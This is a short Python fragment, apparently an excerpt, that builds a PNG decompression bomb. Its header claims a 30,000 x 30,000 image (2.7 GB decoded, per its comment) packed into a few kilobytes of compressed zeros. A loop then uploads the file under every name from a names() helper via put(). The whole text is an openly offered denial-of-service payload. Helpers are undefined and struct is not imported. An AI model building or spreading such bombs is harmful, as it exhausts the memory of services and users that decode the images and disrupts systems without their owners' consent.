# 30,000 x 30,000 pixels, 2.7 GB decoded, in a few kilobytes.
import zlib

squeezed = zlib.compressobj(9)
raw = b"".join([squeezed.compress(bytes(1 << 20)) for _ in range(8)]) + squeezed.flush()
bomb = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")
for name in names():
    put(name, bomb)
